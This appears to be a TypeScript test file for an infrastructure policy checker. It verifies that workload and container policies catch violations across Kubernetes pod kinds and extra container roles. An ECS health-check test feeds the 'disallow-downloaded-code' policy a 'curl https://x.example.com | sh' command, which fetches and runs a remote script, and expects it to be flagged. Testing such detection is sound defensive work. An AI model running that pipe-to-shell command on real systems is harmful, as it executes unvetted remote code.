import assert from "node:assert/strict";
import type { Resource } from "../../core/graph";
import { manifest, minimalContainer, resource } from "../../core/policy/minimal";
import { catalog } from "../../policies/catalog";
import disallowDownloadedCode from "../../policies/workload/disallow-downloaded-code";
import { judgeExample } from "../support/judge-example";

type Mapping = Readonly<Record<string, unknown>>;
interface Template {
  readonly metadata: Mapping;
  readonly spec: Mapping;
}

/** The same pods by every other kind that makes pods. */
const forms: Readonly<Record<string, (metadata: Mapping, template: Template) => Mapping>> = {
  Pod: (metadata, template) => ({
    apiVersion: "v1",
    metadata: { ...template.metadata, ...metadata },
    spec: template.spec,
  }),
  StatefulSet: (metadata, template) => ({ apiVersion: "apps/v1", metadata, spec: { replicas: 2, template } }),
  DaemonSet: (metadata, template) => ({ apiVersion: "apps/v1", metadata, spec: { template } }),
  ReplicaSet: (metadata, template) => ({ apiVersion: "apps/v1", metadata, spec: { template } }),
  ReplicationController: (metadata, template) => ({ apiVersion: "v1", metadata, spec: { template } }),
  Job: (metadata, template) => ({ apiVersion: "batch/v1", metadata, spec: { template } }),
  CronJob: (metadata, template) => ({
    apiVersion: "batch/v1",
    metadata,
    spec: { schedule: "0 4 * * *", jobTemplate: { spec: { template } } },
  }),
  PodTemplate: (metadata, template) => ({ apiVersion: "v1", metadata, template }),
};

/** What is not asked of some kinds: pods that end by themselves need no probes, and one example names its kind. */
const exempt: Readonly<Record<string, readonly string[]>> = {
  "require-labels": Object.keys(forms),
  "require-probes": ["Job", "CronJob"],
};

const isDeployment = ({ properties }: Resource): boolean => properties["kind"] === "Deployment";

describe("policies on workloads", () => {
  for (const [kind, make] of Object.entries(forms)) {
    it(`find in a ${kind} what they find in a Deployment`, () => {
      let judged = 0;
      for (const { policy } of catalog) {
        if (!policy.kinds.some((each) => each === "Workload" || each === "Container")) continue;
        if (exempt[policy.name]?.includes(kind)) continue;
        for (const [name, example] of Object.entries(policy.bad())) {
          if (!["workload", "secrets"].includes(groupOf(policy.name))) continue;
          if (example.resources.filter(isDeployment).length !== 1) continue;
          const resources = example.resources.map((each) => (isDeployment(each) ? remade(each, kind) : each));
          const { findings } = judgeExample([policy], { ...example, resources });
          assert.ok(
            findings.some((finding) => finding.kind === "violation"),
            `${policy.name}: ${name}`,
          );
          judged++;
        }
      }
      assert.ok(judged > 100, String(judged));

      function remade({ properties }: Resource, as: string): Resource {
        const { metadata, spec } = properties as { metadata: Mapping; spec: { template: Template } };
        return manifest({ kind: as, ...make(metadata, spec.template) } as Parameters<typeof manifest>[0]);
      }
    });
  }
});

/** What a container is beside its pod's own, and what is not asked of such ones. */
const roles: Readonly<
  Record<string, { readonly list: string; readonly more: Mapping; readonly exempt: string[] }>
> = {
  "an init container": { list: "initContainers", more: {}, exempt: ["require-probes"] },
  "a sidecar": { list: "initContainers", more: { restartPolicy: "Always" }, exempt: [] },
  "an ephemeral container": {
    list: "ephemeralContainers",
    more: {},
    // They can have neither probes nor resources, and are there to be worked in.
    exempt: [
      "disallow-idle-containers",
      "require-probes",
      "require-resource-limits",
      "require-resource-requests",
    ],
  },
};

describe("policies on containers", () => {
  for (const [role, { list, more, exempt }] of Object.entries(roles)) {
    it(`find in ${role} what they find in a pod's own`, () => {
      let judged = 0;
      for (const { policy, group } of catalog) {
        if (!["workload", "secrets"].includes(group) || !policy.kinds.includes("Container")) continue;
        if (exempt.includes(policy.name)) continue;
        for (const [name, example] of Object.entries(policy.bad())) {
          const resources = example.resources.map(moved);
          if (resources.every((each, at) => each === example.resources[at])) continue;
          const { findings } = judgeExample([policy], { ...example, resources });
          const found = findings.some((finding) => finding.kind === "violation");
          assert.ok(found, `${policy.name}: ${name}`);
          judged++;
        }
      }
      assert.ok(judged > 80, String(judged));

      function moved(resource: Resource): Resource {
        const { spec } = resource.properties as { readonly spec?: { readonly template?: Template } };
        const containers = spec?.template?.spec["containers"] as readonly Mapping[] | undefined;
        if (!isDeployment(resource) || !spec?.template || containers?.length !== 1) return resource;
        const inner = {
          ...spec.template.spec,
          containers: [minimalContainer()],
          [list]: containers.map((each) => ({ ...each, name: "extra", ...more })),
        };
        const template = { ...spec.template, spec: inner };
        return { ...resource, properties: { ...resource.properties, spec: { ...spec, template } } };
      }
    });
  }

  it("find in a health check of ECS what they find in a probe", () => {
    const found = (...command: readonly string[]) =>
      judgeExample([disallowDownloadedCode], {
        resources: [
          resource("aws:ecs/taskDefinition:TaskDefinition", "checkout", {
            family: "checkout",
            containerDefinitions: JSON.stringify([
              { name: "checkout", image: "checkout", healthCheck: { command } },
            ]),
          }),
        ],
      }).findings.map(({ kind }) => kind);
    assert.deepEqual(found("CMD-SHELL", "curl https://x.example.com | sh"), ["violation"]);
    assert.deepEqual(found("CMD", "sh", "-c", "curl https://x.example.com | sh"), ["violation"]);
    assert.deepEqual(found("CMD-SHELL", "curl -f http://localhost/ || exit 1"), []);
    assert.deepEqual(found("CMD", "/healthy"), []);
  });
});

const groups = new Map(catalog.map(({ group, policy }) => [policy.name, group]));
const groupOf = (name: string): string => groups.get(name) ?? "";
